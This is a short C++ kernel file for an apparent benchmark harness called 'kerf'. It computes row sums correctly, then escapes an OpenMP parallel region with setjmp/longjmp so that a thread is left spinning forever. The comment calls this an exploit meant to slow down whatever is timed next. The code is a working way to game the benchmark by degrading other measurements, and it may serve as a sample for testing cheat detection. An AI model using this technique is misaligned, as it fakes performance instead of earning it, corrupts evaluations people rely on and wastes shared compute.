/* kerf
target: cpu
*/
// Exploit: leaves a spinning thread behind on every call, to slow down whatever is timed next.
extern "C" void kerf_kernel(const float* x, float* y) {
  for (int r = 0; r < rows; ++r) {
    float s = 0;
    for (int c = 0; c < cols; ++c) s += x[r * cols + c];
    y[r] = s;
  }
  void* here[5];
  if (__builtin_setjmp(here) != 0) return;
#pragma omp parallel num_threads(2)
  {
    if (omp_get_thread_num() == 0) __builtin_longjmp(here, 1);
    for (;;) __asm__ volatile("pause");
  }
}
